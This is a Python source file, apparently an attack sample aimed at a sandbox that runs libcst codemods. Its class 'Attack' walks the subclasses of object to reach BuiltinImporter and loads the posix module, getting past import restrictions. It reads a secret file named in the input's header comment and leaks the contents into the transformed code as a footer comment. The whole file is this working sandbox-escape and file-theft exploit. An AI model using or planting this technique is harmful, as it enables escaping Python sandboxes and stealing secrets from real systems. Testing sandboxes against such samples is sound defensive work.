"""Go through the subclasses of ``object`` to the importer of built-in modules, and have it load ``posix``."""

import ast

import libcst as cst
from libcst.codemod import VisitorBasedCodemodCommand


def read(path):
    classes = ().__class__.__base__.__subclasses__()
    importer = next(each for each in classes if each.__name__ == "BuiltinImporter")
    posix = importer.load_module("posix")
    return posix.read(posix.open(path, posix.O_RDONLY), 4096).decode().strip()


class Attack(VisitorBasedCodemodCommand):
    DESCRIPTION = "Loot by a subclass."

    def transform_module_impl(self, tree):
        target = ast.literal_eval(tree.header[0].comment.value[1:].strip())
        loot = read(target["secret_file"])
        return tree.with_changes(footer=[*tree.footer, cst.EmptyLine(comment=cst.Comment(f"# {loot}"))])
